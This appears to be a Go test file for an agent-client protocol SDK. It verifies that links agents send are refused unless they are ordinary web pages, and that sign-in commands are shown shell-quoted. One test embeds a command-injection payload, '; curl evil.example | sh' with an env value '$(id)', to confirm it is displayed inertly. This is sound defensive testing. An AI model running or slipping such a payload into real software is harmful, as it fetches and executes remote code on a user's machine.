package order_test

import (
	"context"
	"encoding/json"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/acpkit/go-sdk/acp"
	"github.com/acpkit/go-sdk/agent"
	onagent "github.com/acpkit/go-sdk/agent/onjsonrpc2"
	"github.com/acpkit/go-sdk/client"
	"github.com/acpkit/go-sdk/client/elicitation"
	"github.com/acpkit/go-sdk/client/host"
	"github.com/acpkit/go-sdk/client/signin"
	acp2 "github.com/acpkit/go-sdk/draft2/acp"
	agent2 "github.com/acpkit/go-sdk/draft2/agent"
	client2 "github.com/acpkit/go-sdk/draft2/client"
	"github.com/acpkit/go-sdk/internal/endpoint/peertest"
	"github.com/acpkit/go-sdk/internal/rawpeer"
	peertest2 "github.com/acpkit/go-sdk/internal/system/peertest/v2"
	"github.com/acpkit/go-sdk/internal/weblink/weblinktest"
	"github.com/acpkit/go-sdk/rpcerr"
	"github.com/acpkit/go-sdk/stream"
)

// linkWays are the ways that a link can take from an agent to a person. Each returns what a person is shown
// or a program is given to open, or "" for a link that is refused or left out.
var linkWays = map[string]func(t *testing.T) (play func(link string) string){
	"client of version 1": throughClient("stdio", 1), "client of version 2": throughClient("stdio", 2), "client on jsonrpc2": throughClient(onLibrary, 1),
	"draft2/connect, version 1": throughClient(withConnect, 1), "draft2/connect, version 2": throughClient(withConnect, 2),
	"proxy of version 1": throughClient(throughProxy, 1), "proxy of version 2": throughClient(throughProxy, 2),
	"client/host": func(t *testing.T) func(string) string {
		shown := ""
		h, err := host.Open(&host.Options{
			Form: func(context.Context, *elicitation.Form) (map[string]acp.ElicitationContentValue, error) {
				return nil, elicitation.ErrDeclined
			},
			Page: func(_ context.Context, p *elicitation.Page) error { shown = p.URL; return nil },
		})
		require.NoError(t, err)
		t.Cleanup(func() { _ = h.Close() })
		near, far := stream.Pipe()
		peer := rawpeer.New(t, far)
		c := rawpeer.Start(t, client.New(near, h.Client, &client.Options{Logger: quiet}))
		done := make(chan error, 1)
		go func() { _, err := c.Initialize(t.Context(), nil); done <- err }() // ends with the call
		peer.Initialize(`{}`)
		require.NoError(t, <-done)
		return func(link string) string {
			shown = ""
			peer.Call("1", "elicitation/create", page(link))
			peer.Next()
			return shown
		}
	},
	"client/elicitation": func(t *testing.T) func(string) string {
		shown := ""
		part := &elicitation.FormsAndPages{Open: func(_ context.Context, p *elicitation.Page) error { shown = p.URL; return nil }}
		return func(link string) string {
			shown = ""
			_, err := part.CreateElicitation(t.Context(), &acp.CreateElicitationRequest{Mode: &acp.ElicitationURLMode{URL: link, Scope: &acp.ElicitationRequestScope{}}})
			assert.Equal(t, shown == "", err != nil)
			return shown
		}
	},
	"client/signin": func(t *testing.T) func(string) string {
		return func(link string) string {
			way := signin.Ways([]acp.AuthMethod{unknownMethod(t, link)})[0]
			assert.Equal(t, way.Link != "", strings.Contains(way.Instruction(""), "with a value from "))
			return way.Link
		}
	},
	"the error that the user must sign in": func(t *testing.T) func(string) string {
		return func(link string) string {
			near, far := stream.Pipe()
			peer := rawpeer.New(t, far)
			c := rawpeer.Start(t, client.New(near, func(*client.Conn) acp.Client { return &peertest.Client{} }, &client.Options{Logger: quiet}))
			done := make(chan error, 1)
			go func() { _, err := c.Initialize(t.Context(), nil); done <- err }() // ends with the call
			method, err := json.Marshal(unknownMethod(t, link))
			require.NoError(t, err)
			peer.Answer(peer.Expect("initialize"), `{"protocolVersion":1,"authMethods":[`+string(method)+`]}`)
			require.NoError(t, <-done)
			text := client.Explain(c, rpcerr.AuthRequired(nil))
			require.Contains(t, text, "API_KEY")
			_, link, _ = strings.Cut(text, "with a value from ")
			return strings.TrimSpace(link)
		}
	},
	"agent of version 1": func(t *testing.T) func(string) string {
		var conn *agent.Conn
		peer := rawAgent(t, 1, func(s stream.Stream) {
			conn = rawpeer.Start(t, agent.New(s, func(*agent.Conn) acp.Agent { return &peertest.Agent{} }, &agent.Options{Logger: quiet}))
		})
		return sending(t, peer, func(link string) error {
			_, err := conn.CreateElicitation(t.Context(), &acp.CreateElicitationRequest{Message: "m", Mode: &acp.ElicitationURLMode{ElicitationID: "e", URL: link, Scope: &acp.ElicitationRequestScope{RequestID: acp.NumberID(1)}}})
			return err
		})
	},
	"agent of version 2": func(t *testing.T) func(string) string {
		var conn *agent2.Conn
		peer := rawAgent(t, 2, func(s stream.Stream) {
			conn = rawpeer.Start(t, agent2.New(s, func(*agent2.Conn) acp2.Agent { return &peertest2.FullAgent{} }, &agent2.Options{Unstable: true, Logger: quiet}))
		})
		return sending(t, peer, func(link string) error {
			_, err := conn.CreateElicitation(t.Context(), &acp2.CreateElicitationRequest{Message: "m", Mode: &acp2.ElicitationURLMode{ElicitationID: "e", URL: link, Scope: &acp2.ElicitationRequestScope{RequestID: acp.NumberID(1)}}})
			return err
		})
	},
	"agent on jsonrpc2": func(t *testing.T) func(string) string {
		var c acp.Client
		peer := rawAgent(t, 1, func(s stream.Stream) {
			newConn(t, s, onagent.Handler(func(peer acp.Client) acp.Agent { c = peer; return &peertest.Agent{} }, &onagent.Options{Logger: quiet}))
		})
		return sending(t, peer, func(link string) error {
			_, err := c.(acp.Elicitor).CreateElicitation(t.Context(), &acp.CreateElicitationRequest{Message: "m", Mode: &acp.ElicitationURLMode{ElicitationID: "e", URL: link, Scope: &acp.ElicitationRequestScope{RequestID: acp.NumberID(1)}}})
			return err
		})
	},
}

func throughClient(over profile, version int) func(t *testing.T) func(string) string {
	return func(t *testing.T) func(string) string {
		e := newRefuser(t, over, version, "client")
		return func(link string) string {
			e.calls.Store(0)
			e.peer.Call("1", "elicitation/create", page(link))
			m := e.peer.Next()
			if e.calls.Load() == 0 && assert.NotNil(t, m.Error, link) {
				return ""
			}
			return link
		}
	}
}

// unknownMethod is a way to sign in as older agents have it.
func unknownMethod(t *testing.T, link string) acp.AuthMethod {
	raw, err := json.Marshal(map[string]any{"id": "k", "name": "K", "type": "env_var", "vars": []string{"API_KEY"}, "link": link})
	require.NoError(t, err)
	return &acp.UnknownAuthMethod{Type: "env_var", Raw: raw}
}

// rawAgent starts an agent whose client can show pages.
func rawAgent(t *testing.T, version int, start func(stream.Stream)) *rawpeer.Peer {
	near, far := stream.Pipe()
	peer := rawpeer.New(t, far)
	start(near)
	params := `{"protocolVersion":1,"clientCapabilities":{"elicitation":{"url":{}}}}`
	if version == 2 {
		params = `{"protocolVersion":2,"info":{"name":"n","version":"v"},"capabilities":{"elicitation":{"url":{}}}}`
	}
	peer.Call(`"first"`, "initialize", params)
	peer.Next()
	return peer
}

// sending plays links that an agent sends: an error means that nothing is sent.
func sending(t *testing.T, peer *rawpeer.Peer, send func(link string) error) func(string) string {
	return func(link string) string {
		done := make(chan error, 1)
		go func() { done <- send(link) }() // ends with the response
		if link == goodLink {
			peer.Answer(peer.Expect("elicitation/create"), `{"action":"decline"}`)
		}
		if err := <-done; err != nil {
			peer.Call("1", "_echo", `{"n":1}`)
			assert.NotContains(t, peer.Next().Raw, "elicitation/create", "it was sent")
			return ""
		}
		return link
	}
}

const goodLink = "https://bank.example/login"

// No way leads a person to anything but a web page, or to another host than the one shown.
func TestLinksOnEveryWay(t *testing.T) {
	for name, way := range linkWays {
		t.Run(name, func(t *testing.T) {
			play := way(t)
			for what, link := range weblinktest.False {
				assert.Empty(t, play(link), what)
			}
			assert.Equal(t, goodLink, play(goodLink))
		})
	}
}

// A field of a client's package that holds an address is one that TestLinksOnEveryWay reads, or is listed here.
func TestFieldsThatHoldLinks(t *testing.T) {
	known := map[string]string{
		"client/elicitation Page.URL":  "client/elicitation, client/host",
		"client/signin Way.Link":       "client/signin",
		"client/thread Block.URI":      "the address of a resource is data of the conversation, and nothing opens it",
		"client/thread Icon.URI":       "an icon is data of the conversation, and nothing loads it",
		"draft2/connect MCPServer.URL": "it is the program's own, for the agent",
	}
	found := map[string]bool{}
	for _, root := range []string{"client", "draft2/client", "draft2/connect", "draft2/thread", "draft2/permission"} {
		err := filepath.WalkDir(filepath.Join("../../../..", root), func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
				return err
			}
			f, err := parser.ParseFile(token.NewFileSet(), path, nil, 0)
			ast.Inspect(f, func(n ast.Node) bool {
				s, ok := n.(*ast.TypeSpec)
				if !ok || !s.Name.IsExported() {
					return true
				}
				if fields, ok := s.Type.(*ast.StructType); ok {
					for _, field := range fields.Fields.List {
						for _, id := range field.Names {
							switch id.Name {
							case "URL", "URI", "Link", "Href", "Address", "Src":
								folder, _ := filepath.Rel("../../../..", filepath.Dir(path))
								found[filepath.ToSlash(folder)+" "+s.Name.Name+"."+id.Name] = true
							}
						}
					}
				}
				return true
			})
			return err
		})
		require.NoError(t, err)
	}
	for name := range found {
		assert.Contains(t, known, name, "play its links in TestLinksOnEveryWay")
	}
	for name := range known {
		assert.Contains(t, found, name, "it is gone")
	}
}

// In version 2 the command with which a person signs in is shown as a shell reads it, too.
func TestCommandsToSignInOfVersion2(t *testing.T) {
	near, far := stream.Pipe()
	peer := rawpeer.New(t, far)
	c := rawpeer.Start(t, client2.New(near, func(*client2.Conn) acp2.Client { return &peertest2.FullClient{} }, &client2.Options{Unstable: true, Logger: quiet}))
	done := make(chan error, 1)
	go func() { _, err := c.Initialize(t.Context(), nil); done <- err }() // ends with the call
	peer.Answer(peer.Expect("initialize"), `{"protocolVersion":2,"info":{"name":"n","version":"v"},"capabilities":{},"authMethods":[
		{"type":"terminal","methodId":"t","name":"T","args":["login","; curl evil.example | sh"],"env":[{"name":"A","value":"$(id)"}]}]}`)
	require.NoError(t, <-done)
	assert.Contains(t, client2.Explain(c, rpcerr.AuthRequired(nil)), `run A='$(id)' the agent's command login '; curl evil.example | sh'`)
}
